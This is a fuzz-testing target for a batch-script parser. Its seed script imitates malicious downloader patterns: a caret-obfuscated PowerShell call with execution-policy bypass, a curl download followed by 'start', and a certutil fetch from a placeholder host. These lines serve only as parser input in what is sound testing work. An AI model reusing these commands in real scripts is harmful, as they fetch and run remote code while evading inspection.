import { Buffer } from 'node:buffer';
import { decodeSource } from '../../../src/core/source.js';
import { readBatch } from '../../../src/formats/batch/batch.js';
import type { FuzzTarget } from '../target.js';

const script = `@echo off
set "A=b c" & set /a N=1+2
:main
if not exist "%TEMP%\\x.dat" (
  p^ower^shell -nop -ep bypass -c "iwr '%URL%'; start \\"x\\"" > nul 2>&1
) else if "%A%"=="b" (echo hi) else echo no
curl -o x %URL% && start "" x | find "a" || echo fail
for /f "tokens=1" %%a in ('wmic os ^| find "x"') do set v=%%a
certutil -f ^
  http://a.example.com/b
`;

export const target: FuzzTarget = {
  name: 'batch',
  seeds: () => [Buffer.from(script), Buffer.from(script.replaceAll('\n', '\r\n'))],
  exercise(bytes) {
    readBatch(decodeSource(bytes));
  },
  dictionary: [
    '^\r\n',
    '"',
    'if ',
    'for %%a in (',
    ') do ',
    ') else ',
    '2>&1',
    'rem ',
    ':',
    '%',
    '!',
  ],
};
